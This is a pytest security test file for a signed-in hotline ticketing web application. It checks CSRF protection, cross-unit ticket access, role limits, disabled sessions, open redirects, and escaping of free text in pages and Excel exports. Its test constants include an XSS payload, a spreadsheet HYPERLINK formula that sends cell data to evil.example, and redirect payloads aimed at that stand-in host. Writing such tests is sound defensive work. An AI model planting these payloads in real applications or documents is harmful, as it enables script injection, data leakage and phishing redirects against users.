"""What a hostile visitor tries on the signed-in application: forms without the CSRF token, another unit's
ticket in the URL and in form fields, a supervisor writing, a handler opening the supervision desk, a
disabled person's session and token, a redirect to another site, and markup and spreadsheet formulas in
every free text — shown as text on every page and in every download."""

import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from rexian.adapters import tables as t
from rexian.domain import commands as c
from tests.web.conftest import csrf_of, form_post

MARKUP = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


def _events(hotline) -> int:
    with hotline.engine.connect() as connection:
        return connection.execute(select(func.count()).select_from(t.events)).scalar_one()


def _dispatched(hotline, unit="D02", **intake):
    fields = {"content": "楼下饭店油烟直排，晚上窗户都不敢开", "category": "0201", "caller_phone": "13812345678",
              "address": "东城区多福巷3号", **intake}
    ticket_id = hotline.handle(c.Intake(actor_id="A01", **fields)).ticket_id
    hotline.handle(c.Dispatch(actor_id="P01", ticket_id=ticket_id, lead_unit_id=unit))
    return ticket_id


def _shown_as_text(html: str, where: str) -> None:
    assert "<script>alert(1)" not in html and "<img src=x" not in html, where
    assert "&lt;script&gt;alert(1)" in html or "\\u003cscript\\u003ealert(1)" in html, where


def test_a_form_without_or_with_a_wrong_csrf_token_is_refused_and_writes_nothing(hotline, client_for):
    ticket_id = _dispatched(hotline)
    handler = client_for("H0201")
    before = _events(hotline)
    missing = handler.post(f"/tickets/{ticket_id}/do/sign_for", data={}, follow_redirects=False)
    csrf_of(handler)
    wrong = handler.post(f"/tickets/{ticket_id}/do/sign_for", data={"csrf": "forged"}, follow_redirects=False)
    assert (missing.status_code, wrong.status_code) == (403, 403)
    api = handler.post(f"/api/v1/tickets/{ticket_id}/sign_for", json={}, headers={"X-CSRF-Token": "forged"})
    assert api.status_code == 403
    assert _events(hotline) == before


def test_another_units_ticket_is_unknown_in_the_url_and_refused_in_form_fields(hotline, client_for):
    theirs, ours = _dispatched(hotline, "D02"), _dispatched(hotline, "D03")
    other = client_for("H0301")
    before = _events(hotline)
    assert other.get(f"/tickets/{theirs}").status_code == 404
    assert form_post(other, f"/tickets/{theirs}/do/sign_for").status_code == 404
    assert other.get(f"/api/v1/tickets/{theirs}").status_code == 404
    assert other.post(f"/api/v1/tickets/{theirs}/sign_for", json={},
                      headers={"X-CSRF-Token": csrf_of(other)}).status_code == 404
    assert f'href="/tickets/{theirs}"' not in other.get(f"/tickets?q={theirs}").text
    assert theirs not in other.get("/api/v1/tickets").text
    assert _events(hotline) == before
    # D02's return request, endorsed through D03's own ticket by D03's leader: refused, nothing written
    hotline.handle(c.RequestReturn(actor_id="H0201", ticket_id=theirs, reason="不属于本单位", basis="职责清单"))
    request_id = hotline.ticket(theirs).pending("return").request_id
    before = _events(hotline)
    forged = form_post(client_for("L0301"), f"/tickets/{ours}/do/endorse", {"request_id": request_id})
    assert forged.status_code == 303 and "error=" in forged.headers["location"]
    assert _events(hotline) == before and hotline.ticket(theirs).pending("return").stage == "unit"


def test_a_supervisor_cannot_give_a_ticket_command_in_a_form_or_through_the_api(hotline, client_for):
    ticket_id = _dispatched(hotline)
    supervisor = client_for("J01")
    before = _events(hotline)
    assert form_post(supervisor, f"/tickets/{ticket_id}/do/sign_for").status_code == 403
    assert form_post(supervisor, f"/tickets/{ticket_id}/do/reply", {"reply": "已处理"}).status_code == 403
    assert supervisor.post(f"/api/v1/tickets/{ticket_id}/reply", json={"reply": "已处理"},
                           headers={"X-CSRF-Token": csrf_of(supervisor)}).status_code == 403
    assert form_post(supervisor, "/intake", {"content": "冒充受理", "category": "0201"}).status_code == 403
    assert _events(hotline) == before


@pytest.mark.parametrize("path", ["/desk", "/desk/dashboard.json", "/desk/findings", "/desk/finding?key=x",
                                  "/desk/clues", "/desk/orders", "/desk/bulletins", "/desk/live",
                                  "/desk/live/stream", "/admin", "/admin/deliveries", "/api/v1/audit"])
def test_a_handler_is_refused_every_supervision_and_administration_page(client_for, path):
    assert client_for("H0201").get(path).status_code == 403


def test_a_disabled_persons_session_and_api_token_stop_working_at_once(client_for):
    handler = client_for("H0201")
    token = handler.post("/api/v1/tokens", json={"name": "对接系统"},
                         headers={"X-CSRF-Token": csrf_of(handler)}).json()["token"]
    bearer = {"Authorization": f"Bearer {token}"}
    assert client_for().get("/api/v1/me", headers=bearer).status_code == 200
    assert form_post(client_for("X01"), "/admin/accounts",
                     {"person_id": "H0201", "operation": "disable"}).status_code == 303
    assert handler.get("/api/v1/me").status_code == 401
    assert client_for().get("/api/v1/me", headers=bearer).status_code == 401
    page = handler.get("/tickets", follow_redirects=False)
    assert page.status_code in (303, 401) and "/login" in page.headers.get("location", "/login")


def test_a_command_form_never_sends_the_browser_to_another_site(hotline, client_for):
    ticket_id = _dispatched(hotline)
    done = form_post(client_for("H0201"), f"/tickets/{ticket_id}/do/sign_for", {"back": "//evil.example/x"})
    assert done.status_code == 303 and done.headers["location"] == f"/tickets/{ticket_id}?done=sign_for"


def test_markup_in_every_free_text_is_shown_as_text_on_every_page_and_download(hotline, client_for):
    from rexian.adapters.findings import FindingRepository
    from rexian.bootstrap import desk_services
    from tests.desk.conftest import finding

    # The caller's name is not the very words of the other texts: a known caller's name is masked wherever it
    # occurs in them for the roles that see it masked (docs/web.md), which would hide those texts from them.
    ticket_id = _dispatched(hotline, title=FORMULA, content="油烟直排" + MARKUP, address="多福巷" + MARKUP,
                            caller_name="王" + MARKUP)
    handler, leader, reviewer = client_for("H0201"), client_for("L0201"), client_for("R01")
    supervisor = client_for("J01")
    form_post(handler, f"/tickets/{ticket_id}/do/sign_for")
    form_post(handler, f"/tickets/{ticket_id}/do/record_contact", {"method": "phone", "summary": MARKUP})
    _shown_as_text(handler.get("/").text, "/")  # today's work: before the return request takes it off the list
    asked = form_post(handler, f"/tickets/{ticket_id}/do/request_return", {"reason": MARKUP, "basis": MARKUP})
    assert "error" not in asked.headers["location"]
    for who, path in ((handler, "/tickets?queue=review"), (handler, "/tickets"), (handler, f"/tickets/{ticket_id}"),
                      (leader, "/approvals"), (reviewer, f"/tickets/{ticket_id}"), (supervisor, f"/tickets/{ticket_id}")):
        _shown_as_text(who.get(path).text, path)
    request_id = hotline.ticket(ticket_id).pending("return").request_id
    form_post(leader, f"/tickets/{ticket_id}/do/endorse", {"request_id": request_id, "approve": "true"})
    _shown_as_text(reviewer.get("/reviews").text, "/reviews")

    # the desk: a finding on this ticket decided, a clue, an order the unit answers, a bulletin
    key = "BP-RETURNS:" + ticket_id
    FindingRepository(hotline.engine).upsert([finding(ticket_id, unit_id=MARKUP, detected_at="2026-03-02T08:00:00")],
                                             "batch", hotline.clock())
    desk = desk_services(hotline).desk
    form_post(supervisor, "/desk/findings/decide", {"keys": key, "decision": "confirm", "reason": MARKUP})
    clue_id = desk.open_clue("J01", [key], MARKUP, None)
    form_post(supervisor, f"/desk/clues/{clue_id}/note", {"text": MARKUP})
    _, (order_id,) = desk.issue_orders("J01", ["D02"], hotline.clock() + timedelta(days=5), MARKUP, [key])
    form_post(handler, f"/orders/{order_id}/answer", {"answer": MARKUP})
    drafted = form_post(supervisor, "/desk/bulletins", {"period": "2026-03"}).headers["location"]
    form_post(supervisor, drafted + "/edit", {"title": FORMULA, "preface": MARKUP})
    desk_services(hotline).dashboard.refresh()
    for who, path in ((supervisor, "/desk/finding?key=" + key), (supervisor, "/desk/findings"),
                      (supervisor, "/desk/clues"), (supervisor, f"/desk/clues/{clue_id}"),
                      (supervisor, "/desk/orders"), (handler, "/orders"), (supervisor, drafted),
                      (supervisor, "/desk"), (supervisor, "/desk/live")):
        _shown_as_text(who.get(path).text, path)

    # downloads: the markup stays words, the formula stays text (never a live cell)
    exported = load_workbook(io.BytesIO(handler.get("/tickets/export.xlsx").content))
    cells = [cell for row in exported.active.iter_rows() for cell in row]
    assert any(MARKUP in str(cell.value) for cell in cells)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    bulletin = load_workbook(io.BytesIO(supervisor.get(drafted + "/download.xlsx").content))
    assert not [cell.coordinate for sheet in bulletin for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert supervisor.get(drafted + "/download.docx").content[:2] == b"PK"


@pytest.mark.parametrize("target", ["//evil.example/x", "/\t/evil.example", "/\n/evil.example", "/\\evil.example",
                                    "https://evil.example/", "/%09/evil.example"])
def test_sign_in_never_sends_the_browser_to_another_site(client_for, target):
    from tests.web.conftest import PASSWORD

    client = client_for()
    done = client.post("/login", data={"person_id": "H0201", "password": PASSWORD, "csrf": csrf_of(client),
                                       "next": target}, follow_redirects=False)
    location = done.headers["location"]
    assert done.status_code == 303 and location.startswith("/") and not location.startswith("//")
    assert not any(char in location for char in "\t\n\\")
